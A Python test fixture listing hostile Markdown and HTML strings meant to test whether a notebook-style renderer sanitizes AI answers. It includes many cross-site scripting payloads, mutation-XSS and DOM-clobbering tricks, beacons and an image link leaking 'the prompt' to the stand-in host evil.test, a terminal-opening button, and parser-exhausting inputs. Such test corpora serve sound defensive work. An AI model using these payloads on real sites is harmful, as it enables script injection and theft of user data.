"""Hostile answers: each tries to run a script, fetch something or leave its place.

`CORPUS` is a plain list of Markdown texts. A script that runs sets `window.pwned`;
whatever is fetched goes to `evil.test`.
"""

# ruff: noqa: E501 - a text is one line

from __future__ import annotations

__all__ = ["CORPUS"]

_RUN = "window.pwned=1"

_TAGS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script type=module>{_RUN}</script>",
    '<script src="https://evil.test/a.js"></script>',
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}//",
    f"<img/src=x/onerror={_RUN}>",
    f'<IMG SRC=x ONERROR="{_RUN}">',
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f"<img src=x:x onerror\n=\n{_RUN}>",
    '<img src="https://evil.test/pixel.png">',
    '<img srcset="https://evil.test/pixel.png 1x">',
    '<img lowsrc="https://evil.test/pixel.png">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    '<svg><image href="https://evil.test/x.png"/></svg>',
    '<svg><use href="https://evil.test/x.svg#a"/></svg>',
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><mi//xlink:href='javascript:{_RUN}'>x</math>",
    (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src=x onerror={_RUN}>"
    ),
    (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        f"onerror={_RUN}&gt;'>"
    ),
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<body onload={_RUN}>",
    f"<body background=https://evil.test/x.png onpageshow={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    '<iframe src="https://evil.test/"></iframe>',
    f"<object data='javascript:{_RUN}'></object>",
    '<object data="https://evil.test/x.swf"></object>',
    '<embed src="https://evil.test/x.swf">',
    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<a href='  javascript:{_RUN}'>click</a>",
    f"<a href='java\tscript:{_RUN}'>click</a>",
    f"<a href=x onclick='{_RUN}' autofocus onfocus='{_RUN}' tabindex=1>x</a>",
    f"<input autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<button autofocus onfocus={_RUN}>x</button>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    '<video src="https://evil.test/x.mp4" autoplay></video>',
    '<video poster="https://evil.test/x.png"></video>',
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation:x' onanimationstart={_RUN}>x</div>",
    "<div style='background:url(https://evil.test/x.png)'>x</div>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>*{background:url(https://evil.test/x.png)}</style>",
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<link rel="prefetch" href="https://evil.test/x">',
    '<link rel="dns-prefetch" href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    '<base href="https://evil.test/">',
    f"<form action='javascript:{_RUN}'><input type=submit></form>",
    '<form action="https://evil.test/"><input name=q><button>Send</button></form>',
    f"<isindex action=javascript:{_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={_RUN}>'></xmp>",
    f"<!--><script>{_RUN}</script-->",
    f"<!-- --!><img src=x onerror={_RUN}> -->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<x onclick={_RUN} contenteditable autofocus onfocus={_RUN}>x</x>",
    "<div id=parllama class=jp-Notebook data-commandlinker-command=terminal:create-new>x",
    (
        '<button data-commandlinker-command="terminal:create-new" '
        "data-commandlinker-args='{}'>x</button>"
    ),
    "<img name=getElementById><img id=body><form id=cookie>",
]

_LINKS = [
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](javascript&colon;{_RUN})",
    f"[click](javascript&#58;{_RUN})",
    f"[click](&#x6A;avascript:{_RUN})",
    f"[click](java&Tab;script:{_RUN})",
    f"[click](java&NewLine;script:{_RUN})",
    f"[click](<java\tscript:{_RUN}>)",
    f"[click](\x01javascript:{_RUN})",
    f"[click](javascript://%0a{_RUN})",
    f"[click](vbscript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd)",
    "[click](//evil.test/)",
    "[click](/lab/api/kernels)",
    "[click](blob:https://evil.test/x)",
    f"[click][x]\n\n[x]: javascript:{_RUN}",
    f"[x]: javascript:{_RUN} 'title'\n\n[x]",
    f"<javascript:{_RUN}>",
    f'[a](https://ok.test "onmouseover={_RUN}")',
    f"[a](https://ok.test' onmouseover='{_RUN})",
    f'[a](https://ok.test"onmouseover="{_RUN})',
    f"[a](https://ok.test \"x' onmouseover='{_RUN}\")",
    f'<https://ok.test/" onmouseover="{_RUN}>',
    f'https://ok.test/"onmouseover="{_RUN}',
    f"[<img src=x onerror={_RUN}>](https://ok.test)",
    f"[![x](https://evil.test/x.png)](javascript:{_RUN})",
]

_IMAGES = [
    "![x](https://evil.test/pixel.png?q=the+prompt)",
    "![x](http://evil.test/pixel.png)",
    "![x](//evil.test/pixel.png)",
    "![x][p]\n\n[p]: https://evil.test/pixel.png",
    "[p]: https://evil.test/pixel.png\n\n![p]",
    f"![x](javascript:{_RUN})",
    f'![x](https://evil.test/x.png"onerror="{_RUN})',
    f'![x" onerror="{_RUN}](data:image/png;base64,AAAA)',
    f"![x](data:image/png;base64,AAAA \"t' onerror='{_RUN}\")",
    f'![x](data:image/png;base64,AAAA"onerror="{_RUN})',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
    "![x](blob:https://evil.test/x)",
    "![x](ftp://evil.test/x.png)",
    "![![x](https://evil.test/a.png)](https://evil.test/b.png)",
]

_CODE = [
    f"`<img src=x onerror={_RUN}>`",
    f"```\n</code></pre><script>{_RUN}</script>\n```",
    f"```html\n<script>{_RUN}</script>\n```",
    f"```html\n</span><img src=x onerror={_RUN}>\n```",
    f'```"><img/src=x/onerror={_RUN}>\nx\n```',
    f"```x onclick={_RUN}\nx\n```",
    f"~~~python'\"><svg/onload={_RUN}>\nx\n~~~",
    f"    <script>{_RUN}</script>",
    f"```__proto__\n<img src=x onerror={_RUN}>\n```",
    f"```constructor\n<img src=x onerror={_RUN}>\n```",
]

_MATH = [
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$\\url{{javascript:{_RUN}}}$",
    "$\\includegraphics{https://evil.test/x.png}$",
    f"$\\htmlData{{onclick={_RUN}}}{{x}}$",
    "$\\htmlStyle{background:url(https://evil.test/x)}{x}$",
    "$\\htmlId{cookie}{x} \\htmlClass{jp-Notebook}{y}$",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    f"$$\n</annotation></semantics></math><img src=x onerror={_RUN}>\n$$",
    f"\\(<script>{_RUN}</script>\\)",
    "$" + "\\def\\a{\\a\\a}\\a" + "$",
    "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
    "$\\rule{100000em}{100000em}$",
]

_SHAPES = [
    f"| <img src=x onerror={_RUN}> | b |\n|---|---|\n| <script>{_RUN}</script> | [x](javascript:{_RUN}) |",
    f"# <svg onload={_RUN}>\n\n- <img src=x onerror={_RUN}>\n  - <script>{_RUN}</script>",
    f"> <iframe src=javascript:{_RUN}>\n> [x](javascript:{_RUN})",
    f"- [ ] <input onfocus={_RUN} autofocus>",
    f"**<b onmouseover={_RUN}>** _<i onclick={_RUN}>_ ~~<s/onclick={_RUN}>~~",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\<script>{_RUN}\\</script>",
    f"<br onclick={_RUN}><br/ onmouseover={_RUN}>",
    ">" * 100_000,
    "> " * 3_000 + f"<img src=x onerror={_RUN}>",
    "- " * 3_000 + f"<img src=x onerror={_RUN}>",
    "[" * 50_000 + f"](javascript:{_RUN})",
    "\u202e<script>window.pwned=1</script>\u202c \ufeff<svg onload=window.pwned=1>",
    "\x00<scr\x00ipt>window.pwned=1</scr\x00ipt>",
]

CORPUS: list[str] = _TAGS + _LINKS + _IMAGES + _CODE + _MATH + _SHAPES
